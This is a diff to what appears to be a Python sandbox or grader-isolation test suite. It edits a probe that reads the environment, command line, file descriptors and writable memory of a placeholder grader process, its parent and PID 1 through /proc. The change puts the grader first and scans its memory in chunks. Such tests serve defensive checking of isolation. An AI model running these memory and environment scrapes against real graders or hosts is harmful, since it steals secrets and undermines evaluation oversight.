@@ -138,7 +138,7 @@ FILES = [
 
 PROCESSES = [
     spying(2, "reads the memory and environment of its parents", """
-        for pid in (os.getppid(), 1, @GRADER@):
+        for pid in (@GRADER@, os.getppid(), 1):
             for name in ("environ", "cmdline", "maps", "stack", "status"):
                 attempt(name, lambda: read(f"/proc/{pid}/{name}"))
             for descriptor in attempt("list fd", lambda: os.listdir(f"/proc/{pid}/fd")) or []:
@@ -146,12 +146,14 @@ PROCESSES = [
             for line in (attempt("maps", lambda: read(f"/proc/{pid}/maps")) or b"").decode().splitlines():
                 where, rights = line.split()[:2]
                 start, end = (int(each, 16) for each in where.split("-"))
-                def scan():
+                def scan(piece):
                     with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
-                        memory.seek(start)
-                        return memory.read(end - start)
-                if rights.startswith("rw") and not found:
-                    attempt("mem", scan)
+                        memory.seek(start + piece)
+                        return memory.read(min(end - start - piece, 2**22))
+                for piece in range(0, end - start, 2**22) if rights.startswith("rw") else ():
+                    if found:
+                        break
+                    attempt("mem", lambda: scan(piece))
         """, real=os.geteuid() == 0),
     spying(2, "reads the environment and folders of every process", """
         for pid in [name for name in attempt("list", lambda: os.listdir("/proc")) or [] if name.isdigit()] or range(1, 200):
